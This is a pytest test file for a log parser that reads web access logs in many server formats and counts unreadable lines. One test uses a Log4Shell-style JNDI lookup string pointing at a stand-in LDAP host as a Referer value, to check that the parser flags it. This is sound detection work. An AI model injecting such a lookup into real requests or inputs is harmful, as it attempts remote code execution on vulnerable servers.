"""Recorded traffic of every format, and everything that is none."""

from __future__ import annotations

import gzip
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shield.core.logline import LineReader
from shield.simulate.records import (
    CUT,
    FROM_THE_FUTURE,
    MAX_LINE_BYTES,
    NO_REQUEST,
    NO_TIME,
    NOT_A_LOG_LINE,
    NOT_JSON,
    TOO_LONG,
    Source,
)

AT = datetime(2021, 9, 15, 16, 13, 46, tzinfo=UTC)
AT_US = int(AT.timestamp()) * 1_000_000
COMMON = '203.0.113.7 - - [15/Sep/2021:18:13:46 +0200] "POST /login?x=1 HTTP/1.1" 401 532'
COMBINED = f'{COMMON} "http://a.example/" "Mozilla/5.0 (\\"x\\")"'

LINES = {
    "common": COMMON,
    "combined": COMBINED,
    "nginx with more behind": f'{COMBINED} 711 0.003 [up] [] 10.0.0.1:80 532 0.001 401 0a1b "-"',
    "virtual host": f"a.example:443 {COMBINED}",
    "syslog": f"Sep 15 16:13:46 host nginx[2869]: {COMBINED}",
    "Traefik common": f'{COMBINED} 500 "web@docker" "http://172.17.0.3:80" 0ms',
    "Traefik JSON": '{"ClientHost":"203.0.113.7","RequestMethod":"POST","RequestPath":"/login?x=1",'
    '"DownstreamStatus":401,"StartUTC":"2021-09-15T16:13:46.000000001Z","time":"2021-09-15T16:13:46Z"}',
    "nginx JSON": '{"time_local":"15/Sep/2021:18:13:46 +0200","remote_addr":"203.0.113.7",'
    '"request":"POST /login?x=1 HTTP/1.1","status":"401","http_user_agent":"Mozilla/5.0"}',
    "nginx JSON by seconds": '{"msec":"1631722426.000","remote_addr":"203.0.113.7",'
    '"request_method":"POST","request_uri":"/login?x=1","status":401}',
    "Caddy": '{"level":"info","ts":1631722426.0,"request":{"client_ip":"203.0.113.7","method":"POST",'
    '"uri":"/login?x=1","host":"a.example","headers":{"User-Agent":["curl/7"]}},"status":401,"size":5}',
    "Envoy in a container": '2021-09-15T18:13:46.1+02:00 stdout F {"start_time":"2021-09-15T16:13:46.000Z",'
    '"method":"POST","x-envoy-origin-path":"/login?x=1","response_code":401,'
    '"downstream_remote_address":"203.0.113.7:40000"}',
    "Shield's own": '{"at":1631722426,"ip":"203.0.113.7","method":"POST","path":"/login?x=1","status":401,'
    '"tenant":"acme"}',
}


def source(tmp_path: Path, data: bytes, name: str = "access.log") -> Source:
    path = tmp_path / name
    path.write_bytes(data)
    return Source([path])


@pytest.mark.parametrize("name", LINES)
def test_every_format_says_the_same(name: str, tmp_path: Path) -> None:
    read = source(tmp_path, LINES[name].encode() + b"\n")
    ((at_us, request, status, event),) = read.records()
    assert (at_us, request.ip, request.method, request.path, status, event) == (
        *(AT_US, "203.0.113.7", "POST", "/login?x=1", 401, None),
    )
    assert read.unread.total == 0


def test_facts_beyond(tmp_path: Path) -> None:
    records = list(source(tmp_path, "\n".join(LINES.values()).encode()).records())
    by_name = dict(zip(LINES, records, strict=True))
    assert by_name["combined"][1].user_agent == 'Mozilla/5.0 (\\"x\\")'
    assert by_name["virtual host"][1].host == "a.example"
    assert by_name["Shield's own"][1].tenant == "acme"
    assert by_name["Caddy"][1].user_agent == "curl/7"


def test_a_request_line_that_is_none_is_kept_as_a_target(tmp_path: Path) -> None:
    data = b'1.2.3.4 - - [17/Oct/2023:05:57:49 +1100] "\\x16\\x03\\x01" 400 226 "-" "-"\n'
    ((_, request, status, _),) = source(tmp_path, data).records()
    assert (request.method, request.path, request.user_agent, status) == (None, "\\x16\\x03\\x01", None, 400)


def test_a_referer_is_kept_where_it_holds_an_expression(tmp_path: Path) -> None:
    start = '1.2.3.4 - - [17/Oct/2023:05:57:49 +1100] "GET / HTTP/1.1" 200 226 '
    lines = [f'{start}"{referer}" "x"' for referer in ("https://a.example/?price=$5", "${jndi:ldap://b.example}")]
    (_, plain, _, _), (_, marked, _, _) = source(tmp_path, "\n".join(lines).encode()).records()
    assert plain.headers is None
    assert marked.headers == {"referer": "${jndi:ldap://b.example}"}
    assert (plain.user_agent, marked.user_agent) == ("x", "x")


def test_a_password_that_caddy_asked_for_is_a_login_that_failed(tmp_path: Path) -> None:
    line = LINES["Caddy"].replace('"size":5', '"resp_headers":{"Www-Authenticate":["Basic realm=\\"x\\""]}')
    ((_, _, status, event),) = source(tmp_path, line.encode()).records()
    assert (status, event) == (401, "login_failed")


def test_what_cannot_be_read_is_counted_and_shown(tmp_path: Path) -> None:
    lines = [
        COMBINED.encode(),
        COMBINED.encode()[:40],
        b"\x00\xff\xfe\x01" * 20,
        b"2021/09/30 09:23:53 [error] 1#1: *17 user was not found, client: 127.0.0.1",
        COMMON.replace("15/Sep/2021", "15/Sep/2921").encode(),
        b'{"broken": ',
        b'{"ip": "203.0.113.7"}',
        b'{"at": 1631722426}',
        b"x" * (MAX_LINE_BYTES + 5_000),
        b"",
        COMMON.replace("203.0.113.7", "not-an-address").encode(),
        COMBINED.encode(),
    ]
    read = source(tmp_path, b"\n".join(lines))
    assert len(list(read.records())) == 2
    counts = read.unread.counts
    assert counts[NOT_A_LOG_LINE] >= 3
    assert counts[FROM_THE_FUTURE] == 1
    assert counts[NOT_JSON] == counts[NO_TIME] == counts[NO_REQUEST] == counts[TOO_LONG] == 1
    assert all(sample.isprintable() for shown in read.unread.samples.values() for sample in shown)
    assert read.lines == 11


def test_gzip_whole_and_cut(tmp_path: Path) -> None:
    data = gzip.compress((COMBINED + "\n").encode() * 5_000)
    assert len(list(source(tmp_path, data).records())) == 5_000
    read = source(tmp_path, data[:-20])
    assert 0 <= len(list(read.records())) <= 5_000
    assert read.unread.counts[CUT] == 1


def test_rotated_files_are_read_in_the_order_of_their_times(tmp_path: Path) -> None:
    for name, day in (("access.log", "17"), ("access.log.1", "16"), ("access.log.2.gz", "15")):
        data = (COMMON.replace("15/Sep", f"{day}/Sep") + "\n").encode()
        (tmp_path / name).write_bytes(gzip.compress(data) if name.endswith("gz") else data)
    read = Source(sorted(tmp_path.iterdir()))
    assert [record[0] for record in read.records()] == [AT_US, AT_US + 86_400_000_000, AT_US + 2 * 86_400_000_000]
    assert read.lines == 3


@given(st.binary(max_size=400))
def test_no_bytes_are_a_fault(data: bytes) -> None:
    LineReader().read(data)
    Source([]).record(data)


@given(st.text(alphabet='0123456789abc.:-[]/" +HTPGE\\', max_size=200))
def test_no_nearly_right_line_is_a_fault(text: str) -> None:
    LineReader().read(COMBINED[:30].encode() + text.encode())
    LineReader().read(text.encode() + COMBINED.encode())


@given(st.integers(86_400, 4_102_444_800))
def test_times_are_those_of_the_calendar(seconds: int) -> None:
    moment = datetime.fromtimestamp(seconds, UTC)
    line = f'203.0.113.7 - - [{moment.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "GET / HTTP/1.1" 200 1'
    read = LineReader().read(line.encode())
    assert read is not None
    assert read[0] == seconds * 1_000_000
